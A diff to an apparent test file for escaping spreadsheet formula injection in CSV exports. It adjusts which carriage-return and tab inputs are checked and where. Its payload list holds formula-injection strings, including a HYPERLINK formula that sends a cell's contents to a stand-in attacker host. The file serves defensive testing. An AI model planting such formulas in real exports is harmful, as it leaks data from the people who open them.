@@ -26,21 +26,22 @@ SOFFICE_TIMEOUT = 300
 
 # Each text an attacker might give, and whether a spreadsheet would run it (so the CSV must
 # carry it with an apostrophe in front). The last four are the twins that must stay as written.
+# `check` refuses a CR in any field and a TAB outside multi-line text (BT103), so a CR reaches
+# the CSV writer only past the check; `inert` is tested on it directly in test_inert_*.
 PAYLOADS: tuple[tuple[str, bool], ...] = (
     ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', True),
     ("+1+1", True),
     ("-2+3", True),
     ("@SUM(A1)", True),
     ("\t=1+1", True),
-    ("\r=1+1", True),
     ("＝1+1", True),
     ("＋1+1", True),
     ("－2+3", True),
     ("＠SUM(A1)", True),
     ("  =1+1", True),
     ("\u00a0@SUM(A1)", True),
-    ("said\r\n=1+1\non a new line", False),
-    ("said\r=3+3", False),
+    ("said\n=1+1\non a new line", False),
+    ("said\n=3+3", False),
     ("x = 1 + 1", False),
     ("e-mail @ noon", False),
 )
@@ -58,8 +59,8 @@ def soffice() -> str:
 
 
 def single_line(text: str) -> str:
-    # Titles, names and roles are single-line fields: `check` refuses an LF there (BT103).
-    return text.replace("\n", " ")
+    # Titles, names and roles are single-line fields: `check` refuses a TAB or LF there (BT103).
+    return text.replace("\n", " ").replace("\t", " ")
 
 
 def q(text: str) -> str:
@@ -357,6 +358,8 @@ def test_libreoffice_opens_every_csv_with_no_formula_and_no_extra_row(
         ("\u200b=1+1", "'\u200b=1+1"),
         ("\ufeff+1", "'\ufeff+1"),
         (" \t -1", "' \t -1"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
         ("", ""),
         ("   ", "   "),
         ("1-2", "1-2"),
